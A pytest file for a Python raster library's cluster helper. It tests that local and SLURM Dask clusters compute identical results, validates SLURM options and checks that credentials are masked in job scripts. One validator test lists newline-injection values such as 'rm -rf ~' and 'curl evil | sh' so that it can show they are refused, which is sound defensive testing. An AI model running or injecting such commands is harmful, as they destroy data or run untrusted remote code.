"""lazyraster.cluster: every kind computes the same values; SLURM on a real controller.

The SLURM tests need the single-node cluster of ``scripts/services/slurm.sh``; they
are skipped on a laptop without it and fail in CI.
"""

from __future__ import annotations

import base64
import importlib
import json
import math
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import dask
import dask.array as da
import numpy as np
import pytest
import xarray as xr
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.conftest import ROOT, require_service

import lazyraster
from lazyraster.errors import ClusterConfigError, ClusterStartError, LazyrasterError
from lazyraster.testing import synthetic_raster

# the implementation module: its private helpers are tested directly
cluster_module = importlib.import_module("lazyraster.cluster._factory")
cluster = lazyraster.cluster


# --------------------------------------------------------------------------- helpers


SAMPLE_CATALOG = ROOT / "catalogs" / "sample" / "catalog.json"


def _synthetic_scene() -> xr.Dataset:
    """Red and NIR with NaNs on a real grid; uneven chunks so tasks spread over workers."""
    red = synthetic_raster((120, 90), seed=1, name="red", nan_fraction=0.05)
    nir = synthetic_raster((120, 90), seed=2, name="nir", nan_fraction=0.05)
    ds = xr.Dataset({"red": red, "nir": nir})
    return ds.chunk({"y": (50, 40, 30), "x": (20, 70)})


def _catalog_scene() -> xr.Dataset:
    """Red and NIR of the bundled sample catalog, read from its GeoTIFFs by the workers."""
    ds = lazyraster.load(SAMPLE_CATALOG, bands=["red", "nir"], chunks={"y": 30, "x": 50})
    return ds.isel(time=0)  # 80 x 152 pixels in 3 x 4 chunks


def _mean3x3_block(block: np.ndarray) -> np.ndarray:
    out = np.zeros_like(block)
    ny, nx = block.shape
    for dy in (-1, 0, 1):
        for dx in (-1, 0, 1):
            out[1:-1, 1:-1] += block[1 + dy : ny - 1 + dy, 1 + dx : nx - 1 + dx]
    return out / np.float32(9)


def _analysis(ds: xr.Dataset) -> xr.Dataset:
    """NDVI and a 3x3 mean of it with halos across chunks (map_overlap), lazily."""
    ndvi = ds.geo.ndvi()
    smooth = ndvi.copy(
        data=da.map_overlap(
            _mean3x3_block,
            ndvi.data,
            depth=1,
            boundary=np.float32(0),
            meta=np.array((), dtype=np.float32),
        )
    )
    return xr.Dataset({"ndvi": ndvi, "ndvi_mean3": smooth})


def _reference(ds: xr.Dataset) -> dict[str, np.ndarray]:
    """Plain numpy, outside the code under test: float32 NDVI and a looped 3x3 mean."""
    red = ds["red"].values.astype(np.float32)
    nir = ds["nir"].values.astype(np.float32)
    with np.errstate(invalid="ignore", divide="ignore"):
        ndvi = (nir - red) / (nir + red)
    padded = np.pad(ndvi, 1, constant_values=np.float32(0))
    mean = np.zeros_like(ndvi)
    for dy in range(3):
        for dx in range(3):
            mean += padded[dy : dy + ndvi.shape[0], dx : dx + ndvi.shape[1]]
    return {"ndvi": ndvi, "ndvi_mean3": mean / np.float32(9)}


def _write_and_read(ds: xr.Dataset, path: Path) -> dict[str, np.ndarray]:
    # computed on the input's chunks (halos cross them), written on Zarr's regular ones
    _analysis(ds).chunk({"y": 40, "x": 45}).to_zarr(path, mode="w", consolidated=False)
    with xr.open_zarr(path, consolidated=False) as written:
        assert written.rio.crs == ds.rio.crs
        return {name: written[name].values for name in ("ndvi", "ndvi_mean3")}


def _assert_bitwise_equal(got: dict[str, np.ndarray], want: dict[str, np.ndarray]) -> None:
    for name in want:
        assert got[name].dtype == want[name].dtype == np.float32
        np.testing.assert_array_equal(got[name].view(np.uint32), want[name].view(np.uint32))


def _port_open(address: str) -> bool:
    host, port = address.removeprefix("tcp://").rsplit(":", 1)
    with socket.socket() as s:
        s.settimeout(1)
        return s.connect_ex((host, int(port))) == 0


@pytest.fixture(scope="module")
def scene() -> xr.Dataset:
    """The analysis every kind runs: the sample catalog, loaded lazily."""
    return _catalog_scene()


@pytest.fixture(scope="module")
def threaded(scene, tmp_path_factory) -> dict[str, np.ndarray]:
    """The threaded result, the reference every other kind must equal bit for bit."""
    with cluster("threads"):
        return _write_and_read(scene, tmp_path_factory.mktemp("threads") / "out.zarr")


# --------------------------------------------------------------------------- resources


def test_available_cores_follows_affinity():
    allowed = os.sched_getaffinity(0)
    assert cluster_module.available_cores() == len(allowed)
    one = {min(allowed)}
    os.sched_setaffinity(0, one)  # this thread only; restored below
    try:
        assert cluster_module.available_cores() == 1
    finally:
        os.sched_setaffinity(0, allowed)


def test_cgroup_limit_v2_nested_and_v1_unlimited(tmp_path):
    (tmp_path / "job_7").mkdir()
    (tmp_path / "memory.max").write_text("max\n")
    (tmp_path / "job_7" / "memory.max").write_text(f"{3 * 2**30}\n")
    proc = tmp_path / "cgroup"
    proc.write_text("0::/job_7\n")
    assert cluster_module._cgroup_memory_limit(tmp_path, proc) == 3 * 2**30

    v1 = tmp_path / "v1"
    (v1 / "memory" / "slurm").mkdir(parents=True)
    (v1 / "memory" / "memory.limit_in_bytes").write_text("9223372036854771712\n")
    (v1 / "memory" / "slurm" / "memory.limit_in_bytes").write_text("1073741824\n")
    proc.write_text("4:memory:/slurm\n3:cpuset:/\n")
    assert cluster_module._cgroup_memory_limit(v1, proc) == 2**30
    proc.write_text("4:memory:/\n")
    assert cluster_module._cgroup_memory_limit(v1, proc) is None  # "no limit"


def test_slurm_memory_from_job_environment():
    limit = cluster_module._slurm_memory_limit
    assert limit({"SLURM_MEM_PER_NODE": "2048"}) == 2 * 2**30
    assert limit({"SLURM_MEM_PER_CPU": "1000", "SLURM_CPUS_ON_NODE": "3"}) == 3000 * 2**20
    assert limit({}) is None


def test_available_memory_is_the_smallest_limit(monkeypatch):
    ram = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
    monkeypatch.delenv("SLURM_MEM_PER_CPU", raising=False)
    monkeypatch.setenv("SLURM_MEM_PER_NODE", "100")
    assert cluster_module.available_memory() == 100 * 2**20
    monkeypatch.setenv("SLURM_MEM_PER_NODE", str(4 * ram // 2**20))
    assert cluster_module.available_memory() <= ram


# --------------------------------------------------------------------------- local kinds


def _scheduler_kind() -> str:
    """``threads``, or ``processes`` for dask's processes scheduler (on a pool of ours)."""
    import dask.multiprocessing

    get = dask.base.get_scheduler()
    if getattr(get, "__wrapped__", get) is dask.multiprocessing.get:
        return "processes"
    return str(dask.config.get("scheduler"))


@pytest.mark.parametrize("kind", ["threads", "processes"])
def test_local_schedulers_equal_threads_and_restore_config(kind, scene, threaded, tmp_path):
    before = dask.config.get("scheduler", None)
    with cluster(kind) as client:
        assert client is None
        assert _scheduler_kind() == kind
        assert dask.config.get("num_workers") == cluster_module.available_cores()
        got = _write_and_read(scene, tmp_path / "out.zarr")
    assert dask.config.get("scheduler", None) == before
    _assert_bitwise_equal(got, threaded)


def test_threads_equal_plain_numpy_reference(scene, threaded, tmp_path):
    with dask.config.set(scheduler="sync"):
        _assert_bitwise_equal(threaded, _reference(scene.compute()))
    # and on data with NaNs and uneven chunks
    synthetic = _synthetic_scene()
    with cluster("threads"):
        got = _write_and_read(synthetic, tmp_path / "synthetic.zarr")
    _assert_bitwise_equal(got, _reference(synthetic.compute()))
    assert np.isnan(got["ndvi"]).any()


def test_config_restored_after_error():
    before = dask.config.get("scheduler", None)
    with pytest.raises(ZeroDivisionError), cluster("processes", workers=1):
        1 / 0  # noqa: B018
    assert dask.config.get("scheduler", None) == before


def test_local_cluster_sized_from_cores_and_memory(scene, threaded, tmp_path, monkeypatch):
    monkeypatch.setenv("SLURM_MEM_PER_NODE", "1536")  # as inside a job with --mem=1536M
    before = dask.config.get("scheduler", None)
    with dask.config.set({"lazyraster.cluster.log-tail-lines": 23}), cluster("local") as client:
        address = client.scheduler.address
        assert address.startswith("tcp://127.0.0.1:")
        workers = client.scheduler_info()["workers"].values()
        assert sum(w["nthreads"] for w in workers) == cluster_module.available_cores()
        total = sum(w["memory_limit"] for w in workers)
        expected = cluster_module.available_memory()  # 1536 MiB unless a cgroup says less
        assert expected <= 1536 * 2**20
        assert expected - len(workers) <= total <= expected
        assert dask.config.get("scheduler") == "dask.distributed"
        got = _write_and_read(scene, tmp_path / "out.zarr")
        # the package's settings reach the worker processes
        seen = client.run(lambda: dask.config.get("lazyraster.cluster.log-tail-lines"))
        assert set(seen.values()) == {23}
    _assert_bitwise_equal(got, threaded)
    assert not _port_open(address)
    assert dask.config.get("scheduler", None) == before


def test_local_cluster_refuses_more_memory_than_allowed(monkeypatch):
    monkeypatch.setenv("SLURM_MEM_PER_NODE", "1024")
    with pytest.raises(ClusterConfigError, match=r"memory='2GiB'"), cluster("local", memory="2GiB"):
        pass


def test_existing_scheduler_is_used_and_left_running(scene, threaded, tmp_path):
    from distributed import LocalCluster

    with LocalCluster(
        n_workers=2, threads_per_worker=1, processes=False, dashboard_address=None
    ) as running:
        with cluster(running.scheduler_address) as client:
            assert client.scheduler.address == running.scheduler_address
            got = _write_and_read(scene, tmp_path / "out.zarr")
        assert client.status == "closed"
        assert running.status.name == "running"  # not ours to shut down
    _assert_bitwise_equal(got, threaded)


def test_kind_defaults_to_dask_config():
    with dask.config.set({"lazyraster.cluster.kind": "processes"}), cluster() as client:
        assert client is None
        assert _scheduler_kind() == "processes"


def test_options_that_do_not_fit_the_kind_are_refused():
    with pytest.raises(TypeError, match="kind='slurm'"):
        cluster("threads", dry_run=True)
    with pytest.raises(TypeError, match="not jobs/adapt/memory"):
        cluster("threads", jobs=2)
    with (
        pytest.raises(TypeError, match=r"memory= .* not memory_limit="),
        cluster("local", memory_limit="1GiB"),
    ):
        pass


def test_unknown_kind_names_the_choices():
    with pytest.raises(ValueError, match="'threads', 'processes', 'local', 'slurm'"):
        cluster("mpi")


# --------------------------------------------------------------------------- SLURM options


def _sbatch_lines(script: str) -> list[str]:
    return [line for line in script.splitlines() if line.startswith("#SBATCH")]


@pytest.fixture
def clean_slurm_env(monkeypatch):
    for name in [v for names in cluster_module._SLURM_ENV.values() for v in names]:
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


def test_option_precedence_argument_environment_config(clean_slurm_env):
    clean_slurm_env.setenv("LAZYRASTER_SLURM_ACCOUNT", "from-env")
    clean_slurm_env.setenv("SBATCH_PARTITION", "sbatch-env")
    clean_slurm_env.setenv("LAZYRASTER_SLURM_JOB_SCRIPT_PROLOGUE", "module load gdal; cd /tmp")
    config = {"jobqueue.slurm.account": "from-config", "jobqueue.slurm.walltime": "02:00:00"}
    with dask.config.set(config):
        from_env = cluster_module.slurm_job_script(cores=2, memory="3GiB")
        from_arg = cluster_module.slurm_job_script(
            cores=2, memory="3GiB", account="from-arg", partition="p1"
        )
    assert "#SBATCH -A from-env" in _sbatch_lines(from_env)
    assert "#SBATCH -p sbatch-env" in _sbatch_lines(from_env)
    assert "#SBATCH -t 02:00:00" in _sbatch_lines(from_env)  # only config sets it
    assert "module load gdal\ncd /tmp\n" in from_env
    assert "#SBATCH -A from-arg" in _sbatch_lines(from_arg)
    assert "#SBATCH -p p1" in _sbatch_lines(from_arg)


def test_settings_reach_the_worker_script(clean_slurm_env):
    clean_slurm_env.setenv("GDAL_HTTP_MAX_RETRY", "7 tries")
    with dask.config.set({"lazyraster.cluster.log-tail-lines": 12}):
        script = cluster_module.slurm_job_script(cores=1, memory="1GiB")
    assert "export GDAL_HTTP_MAX_RETRY='7 tries'" in script
    line = next(x for x in script.splitlines() if "DASK_INTERNAL_INHERIT_CONFIG" in x)
    payload = line.split("=", 1)[1]
    inherited = json.loads(base64.b64decode(payload))
    assert inherited["lazyraster"]["cluster"]["log-tail-lines"] == 12
    assert f"{sys.executable} -m distributed.cli.dask_worker" in script


def test_dry_run_prints_the_script_and_submits_nothing(clean_slurm_env, capsys):
    with cluster("slurm", dry_run=True, cores=3, memory="5GiB") as script:
        assert isinstance(script, str)
    assert "#SBATCH --cpus-per-task=3" in _sbatch_lines(script)
    assert "#SBATCH --mem=5G" in _sbatch_lines(script)
    assert capsys.readouterr().out.strip() == script.strip()


def test_missing_cores_or_memory_names_the_options(clean_slurm_env):
    with pytest.raises(ClusterConfigError, match="cores=8, memory='32GiB'") as info:
        cluster_module.slurm_job_script(cores=2)
    assert "LAZYRASTER_SLURM_MEMORY" in str(info.value)
    assert isinstance(info.value, LazyrasterError)
    clean_slurm_env.setenv("LAZYRASTER_SLURM_CORES", "two")
    with pytest.raises(ClusterConfigError, match="LAZYRASTER_SLURM_CORES='two'"):
        cluster_module.slurm_job_script(memory="1GiB")


@pytest.fixture
def fake_sinfo(tmp_path, clean_slurm_env):
    """``sinfo``/``sbatch`` stand-ins: partitions debug (default, 4 CPUs, 8000 MiB) and big."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "sinfo").write_text("#!/bin/sh\nprintf 'debug*|4|8000\\nbig|64|256000\\n'\n")
    (bin_dir / "sbatch").write_text("#!/bin/sh\necho sbatch must not run >&2; exit 1\n")
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)
    clean_slurm_env.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"partition": "nope"}, r"partition='nope': SLURM has no such partition"),
        # dask-jobqueue rounds --mem up to whole GiB: 9000 MiB become 9216M
        ({"memory": "9000MiB"}, r"memory='9000MiB' \(--mem=9216M per job\).*8000 MiB.*'7GiB'"),
        ({"memory": "7.9GiB"}, r"memory='7.9GiB' \(--mem=8192M per job\)"),
        ({"job_mem": "8001M"}, r"\(--mem=8001M per job\)"),
        ({"cores": 5}, r"cores=5 .* \(4 CPUs\)"),
        ({"partition": "big", "memory": "300GB"}, r"memory='300GB'.*'big'"),
    ],
)
def test_validation_against_sinfo_fails_before_submitting(fake_sinfo, options, named):
    kwargs = {"cores": 1, "memory": "1GiB", **options}
    with pytest.raises(ClusterConfigError, match=named):
        cluster_module._validate_slurm(cluster_module._resolve_slurm_options(kwargs, {}))


@settings(max_examples=40, deadline=None)
@given(memory=st.integers(min_value=2**20, max_value=2**40))
def test_checked_memory_is_the_memory_in_the_job_script(memory):
    """Validation compares the --mem dask-jobqueue writes, rounding included."""
    script = cluster_module._job_script({"cores": 1, "memory": memory})
    mem = next(line for line in _sbatch_lines(script) if line.startswith("#SBATCH --mem="))
    number, unit = int(mem[len("#SBATCH --mem=") : -1]), mem[-1]
    assert unit in "KMG"
    in_script_mib = number * {"K": 2**-10, "M": 1, "G": 2**10}[unit]
    checked_mib = cluster_module._job_memory_mib({"memory": memory})
    assert checked_mib == math.ceil(in_script_mib)
    assert checked_mib * 2**20 >= memory


def test_valid_options_pass_validation(fake_sinfo):
    resolve = cluster_module._resolve_slurm_options
    cluster_module._validate_slurm(resolve({"cores": 4, "memory": "7GiB"}, {}))
    cluster_module._validate_slurm(resolve({"cores": 1, "memory": "9GiB", "job_mem": "8000M"}, {}))
    cluster_module._validate_slurm(resolve({"cores": 64, "memory": "200GiB", "queue": "big"}, {}))


def test_slurm_without_slurm_commands_says_so(clean_slurm_env, tmp_path):
    clean_slurm_env.setenv("PATH", str(tmp_path))
    with (
        pytest.raises(ClusterConfigError, match="sinfo, sbatch"),
        cluster("slurm", cores=1, memory="1GiB"),
    ):
        pass


def test_job_description_shows_state_and_log_tail(tmp_path, monkeypatch):
    log = tmp_path / "dask-worker-42.err"
    log.write_text("".join(f"line {i}\n" for i in range(100)) + "ImportError: no numba\n")
    pattern = tmp_path / "dask-worker-%J.err"  # as scontrol shows it: not expanded
    shown = (
        "JobId=42 JobName=dask-worker JobState=FAILED Reason=NonZeroExitCode ExitCode=1:0 "
        f"StdErr={pattern} StdOut={pattern}"
    )
    monkeypatch.setattr(
        cluster_module,
        "_run",
        lambda args, timeout=30: subprocess.CompletedProcess(args, 0, shown + "\n", ""),
    )
    monkeypatch.setattr(cluster_module.shutil, "which", lambda name: f"/usr/bin/{name}")
    text = cluster_module._describe_jobs(["42"])
    assert text.startswith("job 42: FAILED (Reason=NonZeroExitCode, ExitCode=1:0)")
    assert text.count(str(log)) == 1  # the same file is shown once
    assert "ImportError: no numba" in text and "line 71" in text and "line 70\n" not in text


# --------------------------------------------------------------------------- real SLURM


SLURM_SH = ROOT / "scripts" / "services" / "slurm.sh"
SLURM_STATE = ROOT / ".services" / "slurm"


def _squeue(conf_env: dict[str, str]) -> list[str]:
    out = subprocess.run(
        ["squeue", "-h", "-o", "%i %T"], env=conf_env, capture_output=True, text=True, check=True
    )
    return out.stdout.split("\n")[:-1]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _script(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", str(SLURM_SH), *args],
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.fixture(scope="module")
def slurm():
    """SLURM on this machine, with SLURM_CONF set for the module.

    Reuses the cluster of ``.services/slurm`` when it runs (and leaves it running);
    otherwise starts it with ``scripts/services/slurm.sh start`` on free ports and stops
    it at the end. Installing is never done here (``slurm.sh install``, as root).
    """
    installed = all(shutil.which(t) for t in ("slurmctld", "slurmd", "sbatch", "munged"))
    how = "scripts/services/slurm.sh install"  # as root; the fixture starts it then
    started, problem = False, "not installed"
    if installed and _script("status").returncode == 0:
        problem = ""
    elif installed:
        ports = {
            "LAZYRASTER_SLURMCTLD_PORT": str(_free_port()),
            "LAZYRASTER_SLURMD_PORT": str(_free_port()),
        }
        result = _script("start", env=ports)
        started = result.returncode == 0
        problem = "" if started else f"start failed: {result.stderr.strip()[-500:]}"
        how = "scripts/services/slurm.sh start"
    require_service(not problem, f"SLURM ({problem})" if problem else "SLURM", how)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("SLURM_CONF", str(SLURM_STATE / "etc" / "slurm.conf"))
            for name in [v for names in cluster_module._SLURM_ENV.values() for v in names]:
                mp.delenv(name, raising=False)
            yield dict(os.environ)
    finally:
        if started:
            _script("stop")


@pytest.fixture
def slurm_env(slurm, tmp_path):
    """Each test leaves no job behind (pending, running or completing)."""
    assert _squeue(slurm) == [], "jobs left over from before this test"
    yield slurm
    deadline = time.monotonic() + 20
    while _squeue(slurm) and time.monotonic() < deadline:
        time.sleep(0.25)
    assert _squeue(slurm) == []


# Loopback only: scheduler, workers and their dashboards.
_LO = {"interface": "lo", "cores": 1, "memory": "1GiB", "walltime": "00:10:00"}


def test_slurm_two_jobs_equal_threads_bit_for_bit(slurm_env, scene, threaded, tmp_path):
    with (
        dask.config.set({"lazyraster.cluster.log-tail-lines": 17}),
        cluster("slurm", jobs=2, log_directory=str(tmp_path), timeout=60, **_LO) as client,
    ):
        address = client.scheduler.address
        workers = client.scheduler_info()["workers"]
        assert len(workers) == 2
        assert all(w.startswith("tcp://127.0.0.1:") for w in workers)
        jobs = _squeue(slurm_env)
        assert len(jobs) == 2 and all(j.endswith("RUNNING") for j in jobs)
        got = _write_and_read(scene, tmp_path / "out.zarr")
        # both workers took part, and the package's settings reached them
        assert all(
            n > 0 for n in client.run(lambda dask_worker: dask_worker.state.executed_count).values()
        )
        seen = client.run(lambda: dask.config.get("lazyraster.cluster.log-tail-lines"))
        assert set(seen.values()) == {17}
    _assert_bitwise_equal(got, threaded)
    assert not _port_open(address)


def _slow_block(block: np.ndarray) -> np.ndarray:
    time.sleep(0.15)
    return block * np.float32(2)


@pytest.mark.slow
def test_slurm_scancel_of_a_worker_still_gives_the_right_answer(slurm_env, tmp_path):
    from distributed import KilledWorker

    values = np.arange(64 * 32, dtype=np.float32).reshape(64, 32)
    lazy = da.from_array(values, chunks=8).map_blocks(_slow_block, dtype=np.float32)
    with cluster("slurm", jobs=2, log_directory=str(tmp_path), timeout=60, **_LO) as client:
        job_ids = [line.split()[0] for line in _squeue(slurm_env)]
        future = client.compute(lazy.sum(axis=0))  # 32 tasks of 0.15 s on 2 workers
        while sum(client.run(lambda dask_worker: dask_worker.state.executed_count).values()) < 4:
            time.sleep(0.05)
        subprocess.run(["scancel", job_ids[0]], env=slurm_env, check=True)
        try:
            result = future.result(timeout=60)
        except KilledWorker as error:  # the other acceptable outcome: a clear error
            pytest.fail(f"expected a recomputed result on the surviving worker, got {error}")
        np.testing.assert_array_equal(result, values.sum(axis=0, dtype=np.float32) * 2)
        assert len(client.scheduler_info()["workers"]) == 1


def test_slurm_wrong_partition_or_memory_fail_fast(slurm_env):
    start = time.monotonic()
    with (
        pytest.raises(ClusterConfigError, match="partition='no-such-partition'"),
        cluster("slurm", partition="no-such-partition", **_LO),
    ):
        pass
    node_mib = int(
        subprocess.run(
            ["sinfo", "-h", "-o", "%m"], env=slurm_env, capture_output=True, text=True, check=True
        )
        .stdout.split()[0]
        .rstrip("+")
    )
    too_much = f"{node_mib + 1024}MiB"
    with (
        pytest.raises(ClusterConfigError, match=rf"memory='{too_much}'.*{node_mib} MiB"),
        cluster("slurm", **{**_LO, "memory": too_much}),
    ):
        pass
    with (
        pytest.raises(ClusterConfigError, match=r"sbatch --test-only.*Invalid feature"),
        cluster("slurm", job_extra_directives=["--constraint=no-such-feature"], **_LO),
    ):
        pass
    assert time.monotonic() - start < 10
    assert _squeue(slurm_env) == []  # nothing was submitted


def test_slurm_refused_submission_is_an_error_not_a_hang(slurm_env, monkeypatch):
    # As if sbatch --test-only had passed and the real submission then failed.
    monkeypatch.setattr(cluster_module, "_check_with_sbatch", lambda resolved: None)
    start = time.monotonic()
    with (
        pytest.raises(ClusterStartError, match="sbatch did not accept 1 worker job"),
        cluster("slurm", job_extra_directives=["--constraint=no-such-feature"], **_LO),
    ):
        pass
    assert time.monotonic() - start < 10


def test_slurm_adaptive_computes_and_cleans_up_after_an_error(slurm_env, tmp_path):
    values = np.arange(40 * 40, dtype=np.float32).reshape(40, 40)
    with (
        pytest.raises(KeyError, match="raised inside the block"),
        cluster("slurm", adapt=(1, 2), log_directory=str(tmp_path), timeout=60, **_LO) as client,
    ):
        address = client.scheduler.address
        assert len(client.scheduler_info()["workers"]) >= 1
        lazy = da.from_array(values, chunks=10) * np.float32(3)
        np.testing.assert_array_equal(lazy.compute(), values * np.float32(3))
        raise KeyError("raised inside the block")
    assert not _port_open(address)  # and slurm_env checks that no job is left


def test_slurm_failing_job_shows_state_and_log(slurm_env, tmp_path):
    prologue = ["echo 'lazyraster: the worker environment is broken' >&2", "exit 3"]
    with (
        pytest.raises(ClusterStartError) as info,
        cluster(
            "slurm",
            jobs=1,
            job_script_prologue=prologue,
            log_directory=str(tmp_path),
            timeout=60,
            **_LO,
        ),
    ):
        pass
    message = str(info.value)
    assert "FAILED" in message and "ExitCode=3:0" in message
    assert "the worker environment is broken" in message
    assert str(tmp_path) in message


def test_log_path_patterns_are_expanded():
    info = {"JobId": "7", "JobName": "dask-worker", "UserId": "ana(1001)", "BatchHost": "n1"}
    expand = cluster_module._expand_log_path
    assert expand("/l/%x-%j.out", info) == "/l/dask-worker-7.out"
    assert expand("/l/%u/%N-%4J-%%.err", info) == "/l/ana/n1-0007-%.err"
    assert expand("/l/slurm-%A_%a.out", {**info, "ArrayJobId": "5", "ArrayTaskId": "2"}) == (
        "/l/slurm-5_2.out"
    )


_PIPELINE = """
import json, sys
import dask
import dask.array as da
import lazyraster


def main():
    with lazyraster.cluster() as client:  # kind and allocation from the job's environment
        workers = client.scheduler_info()["workers"].values()
        result = {
            "kind": dask.config.get("lazyraster.cluster.kind"),
            "threads": sorted(w["nthreads"] for w in workers),
            "memory": sum(w["memory_limit"] for w in workers),
            "cores": lazyraster.available_cores(),  # as seen inside the job
            "total": float(da.arange(1000, chunks=100, dtype="f8").sum().compute()),
        }
    with open(sys.argv[1], "w") as f:
        json.dump(result, f)


if __name__ == "__main__":  # LocalCluster starts its workers by importing this file
    main()
"""


def _run_template(template: str, options: list[str], env: dict[str, str], tmp_path: Path):
    """Submit docs/sbatch/<template> with site options overridden; return the JSON result."""
    script = tmp_path / "pipeline.py"
    script.write_text(_PIPELINE)
    out = tmp_path / "out.json"
    env = {
        **env,
        "PYTHONPATH": str(ROOT / "src"),
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{env['PATH']}",
    }
    submitted = subprocess.run(
        ["sbatch", "--parsable", "-p", "debug", "-t", "5", "-D", str(tmp_path),
         "-o", str(tmp_path / "job-%j.log"), *options,
         str(ROOT / "docs" / "sbatch" / template), str(script), str(out)],
        env=env, capture_output=True, text=True, check=True,
    )  # fmt: skip
    job_id = submitted.stdout.strip().split(";")[0]
    deadline = time.monotonic() + 120
    while _squeue(env) and time.monotonic() < deadline:
        time.sleep(0.25)
    log = (tmp_path / f"job-{job_id}.log").read_text()
    assert out.exists(), log[-3000:]
    return json.loads(out.read_text())


@pytest.mark.slow
def test_single_node_template_sizes_a_local_cluster_from_the_job(slurm_env, tmp_path):
    result = _run_template("single-node.sbatch", ["-c", "2", "--mem=1G"], slurm_env, tmp_path)
    assert result["kind"] == "local"
    # SLURM binds tasks to their CPUs only with task/affinity or task/cgroup; the test
    # cluster runs task/none, so the job sees the node's CPUs and the check is that
    # the workers use what the job sees, and the job's memory (--mem), not the node's.
    assert sum(result["threads"]) == result["cores"]
    assert 2**30 - len(result["threads"]) <= result["memory"] <= 2**30  # --mem=1G
    assert result["total"] == 499500.0


@pytest.mark.slow
def test_multi_node_template_runs_scheduler_and_workers_on_the_tasks(slurm_env, tmp_path):
    env = {**slurm_env, "LAZYRASTER_SLURM_INTERFACE": "lo"}
    options = ["-N", "1", "-n", "3", "-c", "1", "--overcommit", "--mem-per-cpu=500M"]
    result = _run_template("multi-node.sbatch", options, env, tmp_path)
    # task 0 is the scheduler, task 1 runs the block, task 2 is the one worker
    assert result["kind"] == "slurm"
    assert result["threads"] == [result["cores"]]
    assert result["total"] == 499500.0
    assert not list(tmp_path.glob("dask-scheduler-*.json"))  # the client task removed it


def test_allocation_outside_a_job_says_how(monkeypatch):
    monkeypatch.delenv("SLURM_PROCID", raising=False)
    with (
        pytest.raises(ClusterConfigError, match="srun -n <3 or more>"),
        cluster("slurm", allocation=True),
    ):
        pass


# --------------------------------------------------------------------------- hostile options


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"cores": 0}, r"cores=0 must be a whole number of at least 1, e.g. cores=8"),
        ({"cores": -2}, r"cores=-2"),
        ({"cores": True}, r"cores=True"),
        ({"processes": 0}, r"processes=0 .* e.g. processes=2"),
        ({"memory": "-4GiB"}, r"memory='-4GiB' is not a positive amount.*'8GiB'"),
        ({"memory": "0"}, r"memory='0'"),
        ({"walltime": "forever"}, r"walltime='forever' is not a time limit SLURM accepts"),
        ({"walltime": "1:2:3:4"}, r"walltime='1:2:3:4'.*D-HH:MM:SS"),
        ({"account": "proj\n#SBATCH --qos=high"}, r"account='proj\\n#SBATCH --qos=high'.*one line"),
        ({"partition": "debug\r"}, r"queue='debug\\r'"),
        ({"job_name": "w\n#SBATCH -N 100"}, r"job_name="),
        ({"job_extra_directives": ["--gres=gpu:1\nrm -rf ~"]}, r"job_extra_directives="),
        ({"python": "python3\ncurl evil | sh"}, r"python="),
    ],
)
def test_bad_slurm_options_are_refused_naming_the_option(clean_slurm_env, options, named):
    kwargs = {"cores": 1, "memory": "1GiB", **options}
    with pytest.raises(ClusterConfigError, match=named):
        cluster_module.slurm_job_script(**kwargs)
    with pytest.raises(ClusterConfigError, match=named), cluster("slurm", dry_run=True, **kwargs):
        pass


@pytest.mark.parametrize("walltime", ["30", "30:00", "02:00:00", "1-12", "1-12:30", "2-00:00:00"])
def test_every_slurm_walltime_format_is_accepted(clean_slurm_env, walltime):
    script = cluster_module.slurm_job_script(cores=1, memory="1GiB", walltime=walltime)
    assert f"#SBATCH -t {walltime}" in _sbatch_lines(script)


def test_bad_walltime_from_the_environment_names_the_option(clean_slurm_env):
    clean_slurm_env.setenv("SBATCH_TIMELIMIT", "a week")
    with pytest.raises(ClusterConfigError, match="walltime='a week'"):
        cluster_module.slurm_job_script(cores=1, memory="1GiB")


def test_prologue_lines_are_shell_code_and_may_be_anything(clean_slurm_env):
    script = cluster_module.slurm_job_script(
        cores=1, memory="1GiB", job_script_prologue=["module load gdal\nmodule load proj"]
    )
    assert "module load gdal\nmodule load proj\n" in script


@pytest.mark.parametrize(
    ("kind", "options", "named"),
    [
        ("threads", {"workers": 0}, "workers=0"),
        ("processes", {"workers": -1}, "workers=-1"),
        ("local", {"workers": 0}, "workers=0"),
        ("local", {"threads_per_worker": 0}, "threads_per_worker=0"),
        ("local", {"memory": "-4GiB"}, "memory='-4GiB'"),
    ],
)
def test_bad_local_options_are_refused_naming_the_option(kind, options, named):
    with pytest.raises(ClusterConfigError, match=named), cluster(kind, **options):
        pass


# --------------------------------------------------------------------------- secrets

_ENV_SECRET = "ana:env-s3cret-4f1d"
_CONFIG_SECRET = "Authorization: Bearer cfg-t0ken-9a2c"


def _payloads(script: str) -> str:
    """The script and the decoded dask config it carries: everything a reader could see."""
    line = next(x for x in script.splitlines() if "DASK_INTERNAL_INHERIT_CONFIG" in x)
    return script + base64.b64decode(line.split("=", 1)[1]).decode()


def test_credentials_are_masked_in_the_job_script_and_the_dry_run(clean_slurm_env, capsys):
    clean_slurm_env.setenv("GDAL_HTTP_USERPWD", _ENV_SECRET)
    clean_slurm_env.setenv("AWS_SECRET_ACCESS_KEY", "aws-s3cret-77")
    clean_slurm_env.setenv("AWS_REGION", "eu-north-1")
    with (
        dask.config.set({"lazyraster.gdal.GDAL_HTTP_HEADERS": _CONFIG_SECRET}),
        cluster("slurm", dry_run=True, cores=1, memory="1GiB") as script,
    ):
        printed = capsys.readouterr().out
    for text in (_payloads(script), printed):
        for secret in (_ENV_SECRET, _CONFIG_SECRET, "aws-s3cret-77", "cfg-t0ken"):
            assert secret not in text
        for name in ("GDAL_HTTP_USERPWD", "GDAL_HTTP_HEADERS", "AWS_SECRET_ACCESS_KEY"):
            assert f"# {name}=*** comes with the job's environment" in text
